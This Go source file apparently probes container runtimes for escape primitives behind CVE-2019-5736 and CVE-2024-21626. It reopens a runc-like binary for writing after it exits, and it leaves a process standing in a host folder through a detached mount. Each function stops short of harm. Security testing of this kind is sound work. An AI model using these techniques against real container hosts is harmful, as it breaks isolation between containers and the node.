package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"

	"golang.org/x/sys/unix"
)

// beyond opens a file of the node that is mounted here and takes its mount away,
// so that it lies where no path of the container leads, as all of the node does.
func beyond(file string, flags int) (int, error) {
	fd, err := unix.Open(file, flags, 0)
	if err != nil {
		return 0, err
	}
	return fd, unix.Unmount(filepath.Dir(file), unix.MNT_DETACH)
}

// takeRuntime does what CVE-2019-5736 is about, with a program that stands for
// runc as it enters a container: while that runs it cannot be written to, but a
// descriptor of it is kept, and opened again for writing once it has ended.
func takeRuntime(file string) error {
	runtime, err := beyond(file, unix.O_PATH)
	if err != nil {
		return err
	}
	enters := exec.Command("/proc/self/fd/3", "wait")
	enters.Args[0] = "runc"
	enters.ExtraFiles = []*os.File{os.NewFile(uintptr(runtime), "runtime")}
	if err := enters.Start(); err != nil {
		return err
	}
	exe := "/proc/" + strconv.Itoa(enters.Process.Pid) + "/exe"
	kept, err := os.Open(exe)
	if err != nil {
		return err
	}
	defer kept.Close()
	if f, err := os.OpenFile(exe, os.O_WRONLY, 0); !errors.Is(err, unix.ETXTBSY) {
		f.Close()
		return fmt.Errorf("open what runs: %v", err)
	}
	_ = enters.Process.Kill()
	_ = enters.Wait()
	f, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(int(kept.Fd())), os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	return f.Close() // one could write
}

// leak does what CVE-2024-21626 ends in: a program of the container, started by
// the runtime, stands in a folder of the node. Runtimes of today refuse to be led
// there, so the way there is another.
func leak(folder string) error {
	fd, err := beyond(folder+"/.", unix.O_PATH|unix.O_DIRECTORY)
	if err != nil {
		return err
	}
	if err := unix.Fchdir(fd); err != nil {
		return err
	}
	return unix.Exec("/bin/busybox", []string{"ls", "-l"}, os.Environ())
}
